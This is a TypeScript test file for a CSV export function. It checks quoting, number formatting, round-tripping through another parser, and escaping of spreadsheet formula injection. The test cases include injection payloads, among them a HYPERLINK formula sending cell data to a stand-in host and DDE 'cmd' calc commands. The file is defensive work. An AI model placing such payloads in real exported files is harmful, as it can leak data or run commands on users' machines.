import fc from 'fast-check'
import Papa from 'papaparse'
import { describe, expect, it } from 'vitest'
import { csvRows, tableToCsv } from './csv.ts'

describe('tableToCsv', () => {
  it('writes RFC 4180 with line feeds and no byte order mark', () => {
    const csv = tableToCsv({
      headers: ['a', 'b "c"', 'd'],
      rows: [
        [1, null, 'x,y'],
        [1e-7, 'two\nlines', ' edge'],
      ],
    })
    expect(csv).toBe('a,"b ""c""",d\n1,,"x,y"\n1e-7,"two\nlines"," edge"\n')
  })

  it.each([
    ['the shortest text of a double', 0.1 + 0.2, '0.30000000000000004'],
    ['no negative zero', -0, '0'],
    ['no NaN', Number.NaN, '""'],
    ['no infinity', Infinity, '""'],
    ['a formula becomes text', '=SUM(A1)', "'=SUM(A1)"],
    ['a formula after blanks', ' =1+1', "' =1+1"],
    [
      'a link that sends cells away',
      '=HYPERLINK("https://evil.test?"&A1)',
      `"'=HYPERLINK(""https://evil.test?""&A1)"`,
    ],
    ['a command', "@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"],
    ['a command after a sign', "-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ['a call after a sign', '+WEBSERVICE(A1)', "'+WEBSERVICE(A1)"],
    ['a control with a sign stays as it is', '+ctrl', '+ctrl'],
    ['a temperature too', '-80 C (freezer)', '-80 C (freezer)'],
    ['a handle too', '@home', '@home'],
    ['a number as text too', '-1.5e-3', '-1.5e-3'],
    ['no zero byte', 'a\u0000b', 'ab'],
    ['no broken surrogate', 'a\uD800', 'a\uFFFD'],
  ])('%s', (_, cell, expected) => {
    expect(tableToCsv({ headers: ['h'], rows: [[cell]] })).toBe(`h\n${expected}\n`)
  })

  it.each([
    ['a sign', '+ctrl', "'+ctrl"],
    ['a sign after blanks', ' -80 C', "' -80 C"],
    ['a handle', '@home', "'@home"],
    ['a formula', '=1+1', "'=1+1"],
    ['a tab', '\tx', "'\tx"],
    ['a plain text stays as it is', 'EC50 = 3', 'EC50 = 3'],
  ])('with the stricter guard: %s', (_, cell, expected) => {
    expect(csvRows([[cell]], 'begins')).toBe(`${expected}\n`)
  })

  it('reads back as it was, by another reader', () => {
    const text = fc
      .string({ unit: 'grapheme' })
      .map((s) => s.replaceAll('\u0000', '').replace(/^\s*[=+@-]/, ''))
    const row = fc.tuple(text, fc.double({ noNaN: true, noDefaultInfinity: true }), text)
    fc.assert(
      fc.property(fc.array(row, { minLength: 1, maxLength: 8 }), (rows) => {
        const csv = tableToCsv({ headers: ['a', 'b', 'c'], rows })
        const parsed = Papa.parse<string[]>(csv, { newline: '\n', delimiter: ',' }).data.slice(1, -1)
        expect(parsed.map(([a, b, c]) => [a, Number(b), c])).toEqual(rows.map(([a, b, c]) => [a, b + 0, c]))
      }),
    )
  })

  it('writes no cell that a spreadsheet would run, whatever the text', () => {
    const payload = fc
      .tuple(
        fc.constantFrom('=', ' =', '\t=', '+', '-', '@'),
        fc.constantFrom('A(1)', 'cmd|x', 'S!A1', '1+f(2)'),
      )
      .map(([sign, call]) => `${sign}${call}`)
    fc.assert(
      fc.property(fc.oneof(payload, fc.string()), (text) => {
        const [, cell = ''] = Papa.parse<string[]>(tableToCsv({ headers: ['a'], rows: [[text]] }), {
          newline: '\n',
          delimiter: ',',
        }).data.map(([first]) => first)
        expect(cell.trimStart()).not.toMatch(/^=/)
        if (/^[+@-]/.test(cell)) expect(cell).not.toMatch(/[A-Za-z]\(|\||!/)
      }),
    )
  })
})
